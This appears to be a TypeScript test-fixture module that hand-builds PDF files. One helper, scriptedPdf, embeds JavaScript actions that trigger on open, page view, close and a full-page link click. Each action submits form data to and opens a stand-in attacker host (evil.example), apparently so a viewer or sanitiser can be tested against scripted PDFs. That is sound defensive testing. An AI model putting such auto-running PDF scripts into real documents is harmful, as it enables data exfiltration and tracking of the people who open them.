/** For tests: a PDF with these lines on its pages, in a font that it leaves out. Plain letters only. */
export const pdfOf = (...pages: string[][]) => written('', '', pages)

/** For tests: a PDF that runs programs when it is opened, when its page is shown and when somebody clicks, in a reader that lets it. */
export function scriptedPdf(line: string): Uint8Array<ArrayBuffer> {
  const program = (name: string) =>
    `<< /S /JavaScript /JS (app.alert\\('${name}'\\); this.submitForm\\('https://evil.example/${name}'\\); app.launchURL\\('https://evil.example/'\\)) >>`
  const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${program('click')} >>`
  return written(
    `/OpenAction ${program('open')} /AA << /WC ${program('close')} >> /Names << /JavaScript << /Names [(a) ${program('named')}] >> >>`,
    `/AA << /O ${program('page')} >> /Annots [${link}]`,
    [[line]],
  )
}

function written(ofFile: string, ofPage: string, pages: string[][]): Uint8Array<ArrayBuffer> {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${ofFile} >>`,
    `<< /Type /Pages /Count ${pages.length} /Kids [${pages.map((_, at) => `${4 + 2 * at} 0 R`).join(' ')}] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    ...pages.flatMap((lines, at) => {
      const drawn = lines.map((line) => `(${line}) Tj T*`).join(' ')
      const content = `BT /F 14 Tf 20 TL 40 780 Td ${drawn} ET`
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${5 + 2 * at} 0 R /Resources << /Font << /F 3 0 R >> >> ${ofPage} >>`,
        `<< /Length ${content.length} >> stream\n${content}\nendstream`,
      ]
    }),
  ]
  let file = '%PDF-1.4\n'
  const places = objects.map((object, at) => {
    const place = file.length
    file += `${at + 1} 0 obj ${object} endobj\n`
    return `${String(place).padStart(10, '0')} 00000 n \n`
  })
  const table = file.length
  file += `xref\n0 ${places.length + 1}\n0000000000 65535 f \n${places.join('')}`
  file += `trailer << /Size ${places.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`
  return new TextEncoder().encode(file)
}
